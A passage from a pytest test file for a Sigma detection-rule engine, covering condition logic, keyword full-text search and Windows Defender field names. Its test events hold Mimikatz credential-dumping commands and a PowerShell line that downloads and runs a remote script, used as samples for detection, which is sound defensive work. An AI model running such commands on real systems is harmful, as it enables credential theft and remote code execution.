    pytest.param("Count", 1, 10, False, id="int-1-not-int-10"),
    pytest.param("Count", 1, "1", True, id="int-1-string-1"),
    pytest.param("Ratio", 1.5, 1.5, True, id="float-equal"),
    pytest.param("Ratio", 1.5, 2.5, False, id="float-other"),
    pytest.param("Enabled", True, True, True, id="bool-true-true"),
    pytest.param("Enabled", True, False, False, id="bool-true-false"),
    pytest.param("Enabled", False, False, True, id="bool-false-false"),
    pytest.param("Enabled", False, True, False, id="bool-false-true"),
    pytest.param("Enabled", True, MISSING, False, id="bool-missing"),
    pytest.param("Enabled", False, MISSING, False, id="bool-false-missing"),
    # list-valued event fields: any element matches
    pytest.param("Tags", "b", ["a", "B"], True, id="list-field-any-element"),
    pytest.param("Tags", "c", ["a", "b"], False, id="list-field-no-element"),
    pytest.param("Tags|contains", "xy", ["axyz", "b"], True, id="list-field-contains"),
    pytest.param("Ports", 443, [80, 443], True, id="list-field-int"),
    pytest.param("Ports|gt", 1000, [80, "3389"], True, id="list-field-gt-string-elem"),
]


@pytest.mark.parametrize("spec,value,event_value,expected", TYPE_CASES)
def test_types(spec, value, event_value, expected):
    assert one_field(spec, value, event_value) is expected


# --------------------------------------------------------------------------- conditions

SEL = {
    "sel1": {"A": "1"},
    "sel2": {"B": "1"},
    "filter_x": {"C": "1"},
    "filter_y": {"D": "1"},
}


def _ev(*names):
    return {n: "1" for n in names}


CONDITION_CASES = [
    pytest.param("1 of sel*", _ev("B"), True, id="one-of-sel-second"),
    pytest.param("1 of sel*", _ev("C"), False, id="one-of-sel-none"),
    pytest.param("all of sel*", _ev("A", "B"), True, id="all-of-sel-both"),
    pytest.param("all of sel*", _ev("A", "C", "D"), False, id="all-of-sel-one"),
    pytest.param("1 of them", _ev("D"), True, id="one-of-them"),
    pytest.param("1 of them", {"Z": "1"}, False, id="one-of-them-none"),
    pytest.param("all of them", _ev("A", "B", "C", "D"), True, id="all-of-them"),
    pytest.param("all of them", _ev("A", "B", "C"), False, id="all-of-them-missing-one"),
    pytest.param("not sel1", _ev("B"), True, id="not-true"),
    pytest.param("not sel1", _ev("A"), False, id="not-false"),
    pytest.param("sel1 and not 1 of filter_*", _ev("A"), True, id="and-not-filters-none"),
    pytest.param("sel1 and not 1 of filter_*", _ev("A", "D"), False, id="and-not-filters-one"),
    pytest.param("sel1 and not all of filter_*", _ev("A", "D"), True, id="and-not-all-filters-one"),
    pytest.param("(sel1 or sel2) and not (filter_x and filter_y)", _ev("B", "C"), True, id="nested-parens-true"),
    pytest.param("(sel1 or sel2) and not (filter_x and filter_y)", _ev("B", "C", "D"), False, id="nested-parens-false"),
    pytest.param("((sel1) and ((sel2 or filter_x)))", _ev("A", "C"), True, id="deep-parens"),
    # precedence: and binds tighter than or -> a or (b and c)
    pytest.param("sel1 or sel2 and filter_x", _ev("A"), True, id="prec-or-and-a-only"),
    pytest.param("sel1 or sel2 and filter_x", _ev("B"), False, id="prec-or-and-b-only"),
    pytest.param("sel1 or sel2 and filter_x", _ev("B", "C"), True, id="prec-or-and-b-c"),
    # not binds tighter than and -> (not a) and b
    pytest.param("not sel1 and sel2", {}, False, id="prec-not-and-neither"),
    pytest.param("not sel1 and sel2", _ev("B"), True, id="prec-not-and-b-only"),
    pytest.param("not sel1 and sel2", _ev("A", "B"), False, id="prec-not-and-both"),
    pytest.param("not sel1 or sel2", _ev("A"), False, id="prec-not-or-a-only"),
    pytest.param("not not sel1", _ev("A"), True, id="double-not"),
]


@pytest.mark.parametrize("condition,event,expected", CONDITION_CASES)
def test_conditions(condition, event, expected):
    det = dict(SEL, condition=condition)
    assert fires_det(det, event) is expected


@pytest.mark.parametrize("event,expected", [
    pytest.param(_ev("A"), True, id="them-regular-ident"),
    # identifiers starting with "_" are excluded from "them" (pySigma conditions.py, Sigma spec)
    pytest.param({"H": "1"}, False, id="them-excludes-underscore"),
])
def test_them_excludes_underscore_identifiers(event, expected):
    det = {"sel1": {"A": "1"}, "_helper": {"H": "1"}, "condition": "1 of them"}
    assert fires_det(det, event) is expected


# --------------------------------------------------------------------------- load errors

def _good(title):
    return rule_yaml({"sel": {"Image": "a.exe"}}, title=title)


BAD_DOCS = [
    pytest.param(rule_yaml({"sel": {"Image|foobarmod": "x"}}, title="bad"), id="unknown-modifier"),
    pytest.param(rule_yaml({"sel": {"Image": "x"}, "condition": "sel and nosuchident"}, title="bad"),
                 id="undefined-identifier"),
    pytest.param(rule_yaml({"sel": {"Image": "x"}, "condition": "sel and and"}, title="bad"),
                 id="condition-syntax"),
    pytest.param(rule_yaml({"sel": {"Cmd|re": "[a-"}}, title="bad"), id="invalid-regex-class"),
    pytest.param(rule_yaml({"sel": {"Count|gt": "abc"}}, title="bad"), id="gt-non-number"),
]


@pytest.mark.parametrize("bad", BAD_DOCS)
def test_bad_rule_rejected_alone(bad):
    text = multi_doc(_good("good one"), bad, _good("good two"))
    loaded = load_rule_text(text)
    assert len(loaded.errors) == 1, loaded.errors
    assert isinstance(loaded.errors[0].reason, str) and loaded.errors[0].reason.strip()
    assert sorted(r.title for r in loaded.rules) == ["good one", "good two"]
    dets = Engine(loaded.rules).match({"Image": "A.EXE"})
    assert sorted(d.rule.title for d in dets) == ["good one", "good two"]


def test_unknown_modifier_reason_names_modifier():
    loaded = load_rule_text(rule_yaml({"sel": {"Image|foobarmod": "x"}}))
    assert loaded.errors and "foobarmod" in loaded.errors[0].reason
    assert not loaded.rules


@pytest.mark.parametrize("text", [
    pytest.param("title: x\ndetection: [unclosed\n  condition: sel\n", id="unclosed-flow"),
    pytest.param("title: x\n  bad: indent\n: :\n", id="bad-indent"),
    pytest.param("title: 'unterminated\n", id="unterminated-quote"),
])
def test_malformed_yaml_is_error(text):
    loaded = load_rule_text(text)
    assert loaded.errors
    assert not loaded.rules


def test_missing_condition_is_error():
    doc = yaml.safe_load(_good("x"))
    del doc["detection"]["condition"]
    loaded = load_rule_text(yaml.safe_dump(doc))
    assert loaded.errors and not loaded.rules


# --------------------------------------------------------------------------- engine / detection objects

def test_detection_carries_rule_id_and_title():
    rid1, rid2 = str(uuid.uuid4()), str(uuid.uuid4())
    text = multi_doc(
        rule_yaml({"sel": {"Image|endswith": "\\cmd.exe"}}, title="cmd rule", rule_id=rid1),
        rule_yaml({"sel": {"Image|endswith": "\\powershell.exe"}}, title="ps rule", rule_id=rid2),
    )
    engine = Engine(load_ok(text).rules)
    dets = engine.match({"Image": "C:\\Windows\\System32\\cmd.exe"})
    assert [(d.rule.id, d.rule.title) for d in dets] == [(rid1, "cmd rule")]
    assert not engine.match({"Image": "C:\\x\\notepad.exe"})


def test_engine_is_reusable_across_events():
    engine = Engine(load_ok(rule_yaml({"sel": {"Image": "a.exe"}})).rules)
    assert engine.match({"Image": "a.exe"})
    assert not engine.match({"Image": "b.exe"})
    assert engine.match({"Image": "A.exe"})


# --------------------------------------------------------------------------- windows log-source routing

PROC_CREATION = {"product": "windows", "category": "process_creation"}


@pytest.mark.parametrize("event,expected", [
    pytest.param({"EventID": 1, "Channel": SYSMON_CHANNEL, "Image": "C:\\Windows\\System32\\cmd.exe",
                  "CommandLine": "cmd /c whoami"}, True, id="sysmon-eid1"),
    pytest.param({"EventID": "1", "Channel": SYSMON_CHANNEL, "Image": "C:\\Windows\\System32\\cmd.exe",
                  "CommandLine": "cmd /c whoami"}, True, id="sysmon-eid1-string"),
    pytest.param({"EventID": 3, "Channel": SYSMON_CHANNEL, "Image": "C:\\Windows\\System32\\cmd.exe",
                  "CommandLine": "cmd /c whoami"}, False, id="sysmon-eid3-other-category"),
    pytest.param({"EventID": 1, "Channel": "Security", "Image": "C:\\Windows\\System32\\cmd.exe",
                  "CommandLine": "cmd /c whoami"}, False, id="other-channel"),
    pytest.param({"EventID": 1, "Channel": SYSMON_CHANNEL, "Image": "C:\\Windows\\System32\\cmd.exe",
                  "CommandLine": "cmd /c dir"}, False, id="sysmon-eid1-detection-fails"),
])
def test_process_creation_routed_to_sysmon(event, expected):
    text = rule_yaml({"sel": {"Image|endswith": "\\cmd.exe", "CommandLine|contains": "whoami"}},
                     logsource=PROC_CREATION)
    assert fires(text, event) is expected


# =========================================================================== keywords are a full-text search
#
# Sigma specification (sigma-rules-specification.md), "Keywords search": "Contrary to the Field
# Usage, It's a matter of searching for keywords across an entire event."; "Lists": "strings
# that are applied to the full log message and are linked with a logical 'OR'". Decisions:
# * a keyword matches when it occurs ANYWHERE in one of the event's values (as if `*kw*`),
#   case-insensitively; `*`/`?` inside it work within one value (they never span two fields);
# * values are searched, never field names (our "full log message" is the values: a JSON
#   event's keys are not message text);
# * values nested in lists/dicts are searched too; null values are not text;
# * `|all`: every keyword must occur, each anywhere (possibly in different fields);
# * modifiers apply to the keyword as pySigma transforms it (contains, windash, base64...,
#   cased); `|startswith`/`|endswith` only add a wildcard on one side, which the implicit
#   `*kw*` already has, so they search like a plain keyword; `|re` is searched as written;
# * a number keyword (`- 4104`) is searched as its decimal text: it matches EventID 4104, a
#   value "event 4104 logged" and also 41040 (a full-text search, like `*4104*`).


def fires_fulltext(detection: dict, event: dict) -> bool:
    """fires_det, also checking that routing + prefilter agree with brute force."""
    loaded = load_ok(rule_yaml(detection))
    engine = Engine(loaded.rules)
    indexed = bool(engine.match(dict(event)))
    assert indexed is bool(engine.match_all(dict(event))), "prefilter missed or invented a match"
    return indexed


# the shape of SigmaHQ's "Mimikatz Use" rule (win_alert_mimikatz_keywords.yml)
MIMIKATZ_RULE = {"keywords": ["sekurlsa::logonpasswords", "Kiwi Legit Printer", "\\mimilib.dll"],
                 "filter": {"EventID": 15}, "condition": "keywords and not filter"}
MIMIKATZ_COMMAND = 'mimikatz.exe "privilege::debug" "sekurlsa::logonpasswords" exit'


@pytest.mark.parametrize("event,expected", [
    pytest.param({"EventID": 307, "Param2": "Kiwi Legit Printer"}, True, id="mimikatz-exact-value"),
    pytest.param({"EventID": 307, "Param2": "\\\\*\\Kiwi Legit Printer"}, True, id="mimikatz-unc-printer"),
    pytest.param({"EventID": 307, "Param2": "\\\\PRN01\\kiwi legit printer (copy 1)"}, True,
                 id="mimikatz-printer-case-and-suffix"),
    pytest.param({"EventID": 1, "Image": "C:\\Tools\\mimikatz.exe", "CommandLine": MIMIKATZ_COMMAND},
                 True, id="mimikatz-command-line"),
    pytest.param({"EventID": 4104, "ScriptBlockText": "Invoke-Mimikatz -Command '\"SEKURLSA::LogonPasswords\"'"},
                 True, id="mimikatz-script-block-case"),
    pytest.param({"EventID": 7, "ImageLoaded": "C:\\Windows\\System32\\mimilib.dll"}, True,
                 id="mimikatz-dll-path"),
    pytest.param({"EventID": 15, "Contents": MIMIKATZ_COMMAND}, False, id="mimikatz-filtered-eid15"),
    pytest.param({"EventID": 1, "CommandLine": "mimikatz.exe sekurlsa::tickets exit"}, False,
                 id="mimikatz-other-command"),
    pytest.param({"EventID": 1, "Kiwi Legit Printer": "x", "CommandLine": "notepad"}, False,
                 id="mimikatz-field-name-not-searched"),
])
def test_keywords_mimikatz_rule(event, expected):
    assert fires_fulltext(MIMIKATZ_RULE, event) is expected


LONG_COMMAND = ("powershell.exe -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString("
                "'http://10.0.0.5/a.ps1'); Invoke-Mimikatz -DumpCreds\"")

FULLTEXT_CASES = [
    # substring of a longer value, anywhere
    pytest.param(["Invoke-Mimikatz"], {"CommandLine": LONG_COMMAND}, True, id="ft-middle-of-command-line"),
    pytest.param(["DownloadString("], {"CommandLine": LONG_COMMAND}, True, id="ft-middle-punctuation"),
    pytest.param(["Invoke-Mimikatz"], {"CommandLine": "powershell Invoke-Mimi katz"}, False, id="ft-absent"),
    # case-insensitive both ways
    pytest.param(["INVOKE-MIMIKATZ"], {"CommandLine": LONG_COMMAND}, True, id="ft-upper-keyword"),
    pytest.param(["invoke-mimikatz"], {"CommandLine": LONG_COMMAND.upper()}, True, id="ft-upper-value"),
    # wildcards inside a keyword, within one value
    pytest.param(["sekurlsa::*passwords"], {"CommandLine": MIMIKATZ_COMMAND}, True, id="ft-star-inside"),
    pytest.param(["sekurlsa::*passwords"], {"CommandLine": "sekurlsa::tickets /export"}, False,
                 id="ft-star-inside-neg"),
    pytest.param(["kiwi?legit"], {"Param": "\\\\srv\\Kiwi_Legit Printer"}, True, id="ft-question-inside"),
    pytest.param(["kiwi?legit"], {"Param": "kiwilegit"}, False, id="ft-question-needs-one-char"),
    pytest.param(["*Mimikatz -Dump*"], {"CommandLine": LONG_COMMAND}, True, id="ft-explicit-stars"),
    pytest.param(["alpha*omega"], {"A": "x alpha 1 omega y"}, True, id="ft-star-one-value"),
    pytest.param(["alpha*omega"], {"A": "alpha", "B": "omega"}, False, id="ft-star-never-spans-fields"),
    pytest.param(["line1*line2"], {"A": "line1\nline2"}, True, id="ft-star-spans-newlines"),
    # escaped wildcards are literal
    pytest.param(["what\\?"], {"A": "so what? now"}, True, id="ft-escaped-question"),
    pytest.param(["what\\?"], {"A": "so whatx now"}, False, id="ft-escaped-question-neg"),
    # nested values (lists / dicts) are searched; field names never are
    pytest.param(["sekurlsa::"], {"Data": ["x", {"Cmd": MIMIKATZ_COMMAND}]}, True, id="ft-nested"),
    pytest.param(["sekurlsa::"], {"Data": {"Inner": [["y", "run sekurlsa::msv"]]}}, True, id="ft-nested-deep"),
    pytest.param(["CommandLine"], {"CommandLine": "cmd.exe /c dir"}, False, id="ft-not-field-name"),
    pytest.param(["Inner"], {"Data": {"Inner": "x"}}, False, id="ft-not-nested-field-name"),
    pytest.param(["none"], {"A": None, "B": [None]}, False, id="ft-null-is-no-text"),
    # numbers: searched as their decimal text (decision above)
    pytest.param([4104], {"EventID": 4104}, True, id="ft-number-event-number"),
    pytest.param([4104], {"EventID": "4104"}, True, id="ft-number-event-string"),
    pytest.param([4104], {"EventID": 4103}, False, id="ft-number-other"),
    pytest.param([4104], {"Message": "event 4104 was logged"}, True, id="ft-number-inside-text"),
    pytest.param([4104], {"EventID": 41040}, True, id="ft-number-inside-number"),
    pytest.param(["4104"], {"EventID": 4104}, True, id="ft-string-digits-event-number"),
    pytest.param(["104"], {"EventID": 4104}, True, id="ft-digits-inside-event-number"),
    pytest.param([4104], {"Data": [1, 4104]}, True, id="ft-number-nested"),
]


@pytest.mark.parametrize("keywords,event,expected", FULLTEXT_CASES)
def test_keywords_full_text(keywords, event, expected):
    assert fires_fulltext({"keywords": keywords, "condition": "keywords"}, event) is expected


@pytest.mark.parametrize("item,event,expected", [
    # |all: every keyword must occur somewhere, possibly in different fields
    pytest.param({"|all": ["sekurlsa::logonpasswords", "privilege::debug"]},
                 {"CommandLine": "mimikatz.exe sekurlsa::logonpasswords", "ParentCommandLine": "x privilege::debug"},
                 True, id="all-two-fields"),
    pytest.param({"|all": ["sekurlsa::logonpasswords", "privilege::debug"]},
                 {"CommandLine": MIMIKATZ_COMMAND}, True, id="all-one-field"),
    pytest.param({"|all": ["sekurlsa::logonpasswords", "privilege::debug"]},
                 {"CommandLine": "mimikatz.exe sekurlsa::logonpasswords", "ParentCommandLine": "cmd.exe"},
                 False, id="all-one-missing"),
    # the specification's example, with its spaces: " -ExternalUrl " inside a longer value
    pytest.param({"|all": ["OabVirtualDirectory", " -ExternalUrl "]},
                 {"Payload": "Set-OabVirtualDirectory -Identity 'OAB' -ExternalUrl 'http://x/'"},
                 True, id="all-spec-example"),
    pytest.param({"|all": ["OabVirtualDirectory", " -ExternalUrl "]},
                 {"Payload": "Set-OabVirtualDirectory -ExternalUrlX"}, False, id="all-spec-example-neg"),
    # modifiers transform the keyword, then it is searched
    pytest.param({"|contains": "logonpasswords"}, {"CommandLine": MIMIKATZ_COMMAND}, True, id="mod-contains"),
    pytest.param({"|startswith": "sekurlsa::"}, {"CommandLine": MIMIKATZ_COMMAND}, True,
                 id="mod-startswith-searches"),
    pytest.param({"|endswith": "privilege::debug"}, {"CommandLine": MIMIKATZ_COMMAND}, True,
                 id="mod-endswith-searches"),
    pytest.param({"|startswith": "sekurlsa::"}, {"CommandLine": "mimikatz.exe kerberos::list"}, False,
                 id="mod-startswith-absent"),
    pytest.param({"|re": "sekurlsa::\\w+passwords"}, {"CommandLine": MIMIKATZ_COMMAND}, True, id="mod-re"),
    pytest.param({"|re": "^sekurlsa"}, {"CommandLine": MIMIKATZ_COMMAND}, False, id="mod-re-anchor-as-written"),
    pytest.param({"|re": "^sekurlsa"}, {"A": "x", "B": "sekurlsa::msv"}, True, id="mod-re-any-field"),
    pytest.param({"|cased": "Kiwi Legit"}, {"Param": "\\\\srv\\Kiwi Legit Printer"}, True, id="mod-cased"),
    pytest.param({"|cased": "Kiwi Legit"}, {"Param": "\\\\srv\\kiwi legit printer"}, False, id="mod-cased-neg"),
    pytest.param({"|windash": "-DumpCreds"}, {"CommandLine": "Invoke-Mimikatz /DumpCreds x"}, True,
                 id="mod-windash"),
    pytest.param({"|base64offset|contains": "sekurlsa::"},
                 {"Payload": "x " + b64(b"run sekurlsa::logonpasswords") + " y"}, True, id="mod-base64offset"),
])
def test_keywords_full_text_modifiers(item, event, expected):
    assert fires_fulltext({"keywords": item, "condition": "keywords"}, event) is expected


def test_keyword_explanation_names_the_keyword():
    text = rule_yaml({"keywords": ["sekurlsa::logonpasswords", "Kiwi Legit Printer"], "condition": "keywords"})
    engine = Engine(load_ok(text).rules)
    event = {"CommandLine": MIMIKATZ_COMMAND}
    [hit] = engine.match(event)
    assert engine.explain(hit, event) == [
        {"selection": "keywords", "field": "keywords", "value": "sekurlsa::logonpasswords"}]


# =========================================================================== field names with spaces
#
# Windows Defender (and other providers) name EventData fields with spaces (`New Value`,
# `Source Name`, `Threat Name`, `Process Name`); the Sigma specification, "Field Usage": "use
# them as they appear in the log source and strip all spaces ... `New Value` -> `NewValue`".
# Decisions: a rule's field name that the event lacks also finds an event name that equals it
# once its spaces are removed; the name with its spaces keeps working; an event name without
# spaces wins over a spaced one. Such a field exists (`|exists`, `null`) exactly as its spaced
# original does; the alias is no value, so keyword search neither sees it nor counts it twice.

DEFENDER_CHANNEL = "Microsoft-Windows-Windows Defender/Operational"
DEFENDER_LOGSOURCE = {"product": "windows", "service": "windefend"}
EXCLUSION = "HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\Exclusions\\Paths\\C:\\Users\\Public\\Tools = 0x0"
DEFENDER_5007 = {
    "EventID": 5007, "Channel": DEFENDER_CHANNEL, "Provider_Name": "Microsoft-Windows-Windows Defender",
    "Computer": "WKS-01", "Product Name": "Microsoft Defender Antivirus", "Product Version": "4.18.23110.3",
    "Old Value": None, "New Value": EXCLUSION,
}
DEFENDER_1116 = {
    "EventID": 1116, "Channel": DEFENDER_CHANNEL, "Provider_Name": "Microsoft-Windows-Windows Defender",
    "Threat Name": "HackTool:Win32/Mimikatz!pz", "Severity Name": "High", "Source Name": "AMSI",
    "Process Name": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
    "Path": "amsi:_\\Device\\HarddiskVolume3\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
}


def defender_fires(selection: dict, event: dict, condition: str = "sel") -> bool:
    text = rule_yaml({"sel": selection, "condition": condition}, logsource=DEFENDER_LOGSOURCE)
    engine = Engine(load_ok(text).rules)
    hit = bool(engine.match(dict(event)))
    assert hit is bool(engine.match_all(dict(event)))
    return hit


@pytest.mark.parametrize("selection,event,expected", [
    # SigmaHQ's "Windows Defender Exclusions Added" shape
    pytest.param({"EventID": 5007, "NewValue|contains": "\\Microsoft\\Windows Defender\\Exclusions"},
                 DEFENDER_5007, True, id="5007-newvalue-contains"),
    pytest.param({"EventID": 5007, "NewValue|contains": "\\Real-Time Protection\\"},
                 DEFENDER_5007, False, id="5007-newvalue-contains-neg"),
    pytest.param({"EventID": 5007, "New Value|contains": "\\Exclusions\\Paths\\"},
                 DEFENDER_5007, True, id="5007-spaced-name-as-written"),
    pytest.param({"EventID": 5007, "NewValue|endswith": "= 0x0", "ProductName": "Microsoft Defender Antivirus"},
                 DEFENDER_5007, True, id="5007-two-aliases"),
    pytest.param({"EventID": 5007, "NewValue|re": "Exclusions\\\\Paths\\\\C:"},
                 DEFENDER_5007, True, id="5007-newvalue-re"),
    pytest.param({"EventID": 5007, "newvalue|contains": "exclusions"},
                 DEFENDER_5007, False, id="5007-names-stay-case-sensitive"),
    # SigmaHQ's "Microsoft Defender ... AMSI source" shape
    pytest.param({"EventID": 1116, "SourceName": "AMSI"}, DEFENDER_1116, True, id="1116-sourcename"),
    pytest.param({"EventID": 1116, "SourceName": "Real-Time Protection"}, DEFENDER_1116, False,
                 id="1116-sourcename-neg"),
    pytest.param({"EventID": 1116, "ThreatName|contains": "Mimikatz"}, DEFENDER_1116, True,
                 id="1116-threatname"),
    pytest.param({"EventID": 1116, "ProcessName|endswith": "\\powershell.exe"}, DEFENDER_1116, True,
                 id="1116-processname"),
    pytest.param({"EventID": 1116, "Path|contains": "amsi:"}, DEFENDER_1116, True, id="1116-plain-name"),
])
def test_spaced_field_names(selection, event, expected):
    assert defender_fires(selection, event) is expected


@pytest.mark.parametrize("spec,value,event,expected", [
    pytest.param("NewValue|exists", True, DEFENDER_5007, True, id="exists-alias"),
    pytest.param("NewValue|exists", False, DEFENDER_5007, False, id="exists-false-alias"),
    pytest.param("OldValue|exists", True, DEFENDER_5007, True, id="exists-alias-null-value"),
    pytest.param("NewValue", None, DEFENDER_5007, False, id="null-alias-has-value"),
    pytest.param("OldValue", None, DEFENDER_5007, True, id="null-alias-null-value"),
    pytest.param("OtherValue", None, DEFENDER_5007, True, id="null-absent"),
    pytest.param("OtherValue|exists", True, DEFENDER_5007, False, id="exists-absent"),
    pytest.param("New Value|exists", True, DEFENDER_5007, True, id="exists-spaced-as-written"),
    pytest.param("SourceName", None, {**DEFENDER_1116, "Source Name": ""}, False, id="null-alias-empty"),
    pytest.param("SourceName", "", {**DEFENDER_1116, "Source Name": ""}, True, id="empty-alias-empty"),
])
def test_spaced_field_names_exists_and_null(spec, value, event, expected):
    assert defender_fires({spec: value}, event) is expected


@pytest.mark.parametrize("selection,event,expected", [
    # an event name without spaces is an ordinary field and wins
    pytest.param({"NewValue": "a"}, {"NewValue": "a", "New Value": "b"}, True, id="real-name-wins"),
    pytest.param({"NewValue": "b"}, {"NewValue": "a", "New Value": "b"}, False, id="alias-not-used-when-real"),
    pytest.param({"NewValue": "b"}, {"New Value": ["a", "b"]}, True, id="alias-list-value"),
    pytest.param({"EventID": 5007}, {"Event ID": 4104, "EventID": 5007}, True, id="routing-unaffected"),
    pytest.param({"NewValue|fieldref": "OldValue"}, {"New Value": "X", "Old Value": "x"}, True, id="fieldref-aliases"),
    pytest.param({"NewValue|cased": "X"}, {"New Value": "X"}, True, id="cased-alias"),
    pytest.param({"NewValue|gt": 5}, {"New Value": 7}, True, id="numeric-alias"),
    pytest.param({"SAMUserAccount": "bob"}, {"SAM User Account": "BOB"}, True, id="several-spaces"),
])
def test_spaced_field_names_lookup(selection, event, expected):
    assert fires_fulltext({"sel": selection, "condition": "sel"}, event) is expected


def test_spaced_field_alias_is_not_searched_by_keywords():
    # names are never searched, and the alias adds no value of its own
    assert fires_fulltext({"keywords": ["NewValue"], "condition": "keywords"}, DEFENDER_5007) is False
    assert fires_fulltext({"keywords": ["New Value"], "condition": "keywords"}, DEFENDER_5007) is False
    assert fires_fulltext({"keywords": ["Exclusions\\Paths"], "condition": "keywords"}, DEFENDER_5007) is True


def test_spaced_field_explanation_shows_the_value():
    text = rule_yaml({"sel": {"EventID": 5007, "NewValue|contains": "\\Windows Defender\\Exclusions"},
                      "condition": "sel"}, logsource=DEFENDER_LOGSOURCE)
    engine = Engine(load_ok(text).rules)
    event = dict(DEFENDER_5007)
    [hit] = engine.match(event)
    matched = engine.explain(hit, event)
    [entry] = [m for m in matched if m["field"].startswith("NewValue")]
    assert entry["value"] == "*\\Windows Defender\\Exclusions*"
    assert entry["event_value"] == EXCLUSION
    assert "NewValue" not in event  # the event itself is not changed
